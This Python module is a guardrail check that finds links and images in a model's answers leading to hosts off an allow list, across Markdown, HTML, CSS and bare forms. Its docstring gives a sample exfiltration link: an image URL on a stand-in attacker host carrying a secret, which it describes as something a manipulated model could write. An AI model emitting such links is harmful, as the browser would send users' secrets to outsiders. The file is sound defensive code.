"""Links and images in an answer: only to the hosts that the platform's own people run.

The check `links`. A model that was talked into it could write `![](https://evil.example/?q=SECRET)`,
and a browser would send the secret by showing the picture. So a link is judged however it is
written: Markdown, a reference to one, HTML, or bare; of a relative one nothing leaves.

On the 42 ways of tests/rag/guardrails/test_links.py to point elsewhere, 17 of them hidden behind
something harmless: all found; of its 12 harmless texts (versions, file names, mail addresses,
times): none. Its time grows with the length of a text, whatever is written in it.
"""

import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from html import unescape
from urllib.parse import unquote

from rag.guardrails.checks import Finding, NotRun, Report, Said, Scanned
from rag.types import Span

# Before Python 3.11.5 a possessive group that holds a choice matches wrongly: only single signs are
# repeated so here, and loops are written out.
_LABEL = r"\[[^\[\]]*+(?:\[[^\[\]]*+\][^\[\]]*+)*\]"
_TITLE = r"""(?:\s++(?:"[^"]*+"|'[^']*+'|\([^()]*+\)))?"""
_CLOSED = rf"(?:>?{_TITLE}\s*+\)|>?\s*+\Z)"
"""What is not closed is no link, and what it would have swallowed may be one."""


def _place(kind: str) -> str:
    """Where a Markdown link leads. No other link or image begins within it."""
    sign = r"[^ \n<>)\]]"
    return (
        rf"<?(?P<{kind}_to>(?<=<)[^<>\n]++"
        rf"|(?:{sign}|\](?!\()){sign}*+(?:\](?!\(){sign}*+)*)"
    )


_ATTRIBUTES = r"""[^<>=]*+(?:=(?:\s*+"[^"]*+"|\s*+'[^']*+'|)[^<>=]*+)*"""
_PLACES = re.compile(
    rf"""
    (?P<image>!{_LABEL}\(\s*+{_place("image")}{_CLOSED})
    | (?P<link>{_LABEL}\(\s*+{_place("link")}{_CLOSED})
    | (?P<reference>^\s{{0,3}}\[(?:[^\[\]\\]|\\.){{1,999}}\]:\s*+<?(?P<reference_to>[^\s<>]++)>?)
    | (?P<html><\s*+[a-z][a-z0-9-]*+(?=[\s/>]){_ATTRIBUTES}>?)
    | (?P<style>\burl\(\s*+["']?\s*+(?P<style_to>[^\s"'()]++)["']?\s*+\)?)
    | (?P<bare>\b(?P<bare_to>(?:[a-z][a-z0-9+.-]{{1,15}}:)?//[^\s<>"'\])]++|www\.[^\s<>"'\])]++
        |(?:javascript|data|vbscript|file|blob):[^\s<>"'\])]++))
    | (?P<slashes>(?<![:\w/\\])(?P<slashes_to>[/\\]{{2}}[\w-]++(?:\.[\w-]++)+[^\s<>"'\])]*+))
    """,
    re.IGNORECASE | re.VERBOSE | re.MULTILINE,
)
_SIGNS = ("//", "](", "]:", "<", "\\", "www.", "url(", "script:", "data:", "file:", "blob:")
"""Without one of these there is no link: most texts have none, and are looked through 100 times as
quickly."""
_KINDS = ("image", "link", "reference", "html", "style", "bare", "slashes")
_POINTS = r"srcset|src|xlink:href|href|action|data|poster|background|formaction|ping"
_ATTRIBUTE = re.compile(
    rf"""(?<![\w:-])(?P<name>{_POINTS})\s*+=\s*+(?P<value>"[^"]*+"|'[^']*+'|[^\s"'>]++)""",
    re.IGNORECASE,
)
_ANCHOR = re.compile(r"<\s*a\b", re.IGNORECASE)
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
_WEB = frozenset({"http", "https"})
_INVISIBLE = re.compile(r"[\x00-\x20\x7f\u00ad\u200b-\u200f\u2028-\u202f\u2060-\u2064\ufeff]")
_LONGEST_HOST = 253


@dataclass(frozen=True, slots=True)
class Link:
    """A place in a text that points to another."""

    span: Span
    """All of it: the mark-up and the label too."""
    to: str
    shows: bool
    """Whether showing the text is enough to fetch it, as an image is."""


def links_in(text: str) -> Iterator[Link]:
    """Every link and image of `text`, in order; a tag that points to several places is several."""
    folded = text.casefold()
    if not any(sign in folded for sign in _SIGNS):
        return
    for match in _PLACES.finditer(text):
        kind = str(next(name for name in _KINDS if match[name] is not None))
        span = Span(*match.span(kind))
        if kind == "html":
            shows = _ANCHOR.match(match[0]) is None
            yield from (Link(span, to, shows) for to in _of_tag(match[0]))
        else:
            yield Link(span, match[f"{kind}_to"], kind in ("image", "style"))


def _of_tag(tag: str) -> Iterator[str]:
    """Wherever a tag points: by its attributes, and by what else stands in it."""
    for attribute in _ATTRIBUTE.finditer(tag):
        value = attribute["value"].strip("\"'").strip()
        if attribute["name"].lower() == "srcset":
            yield from filter(None, re.split(r"[,\s]+", value))
        elif value:
            yield value
    # With Markdown in it, it is no tag but text.
    yield from (link.to for link in links_in(_ATTRIBUTE.sub(" ", tag[1:])))


def host_of(to: str) -> str | None:
    """The host that following `to` would reach: empty where it stays here, None where it is no
    web address that a browser may be given (`javascript:` and its like)."""
    plain = _INVISIBLE.sub("", unquote(unescape(to))).replace("\\", "/")
    if plain.lower().startswith("www."):
        plain = f"//{plain}"
    scheme = _SCHEME.match(plain)
    rest = plain
    if scheme:
        if scheme[1].lower() == "mailto":
            return ""
        if scheme[1].lower() not in _WEB:
            return None
        rest = "//" + plain[scheme.end() :].lstrip("/")
    if not rest.startswith("//"):
        return ""
    authority = re.split(r"[/?#]", rest[2:].lstrip("/"), maxsplit=1)[0]
    name = authority.rpartition("@")[2]
    host = name[1:].partition("]")[0] if name.startswith("[") else name.partition(":")[0]
    return unicodedata.normalize("NFKC", host).rstrip(".").lower() or None


@dataclass(frozen=True, slots=True)
class LinksCheck:
    """Finds `image` and `link` that lead to a host not in `allowed`, and `scheme` for what is no
    web address. A host allowed as `*.example.com` allows what is below it, and not itself."""

    allowed: frozenset[str] = frozenset()

    @property
    def name(self) -> str:
        return "links"

    def scan(self, scanned: Scanned) -> Said:
        if not scanned.text.strip():
            return NotRun("there is no text")
        findings = tuple(self._findings(scanned.text))
        return Report(1.0 if findings else 0.0, findings)

    def _findings(self, text: str) -> Iterator[Finding]:
        for link in links_in(text):
            host = host_of(link.to)
            if host is None:
                yield Finding("scheme", 1.0, link.span)
            elif host and not self._allows(host):
                yield Finding("image" if link.shows else "link", 1.0, link.span)

    def _allows(self, host: str) -> bool:
        if host in self.allowed:
            return True
        if len(host) > _LONGEST_HOST:
            return False
        parts = host.split(".")
        return any(f"*.{'.'.join(parts[at:])}" in self.allowed for at in range(1, len(parts)))
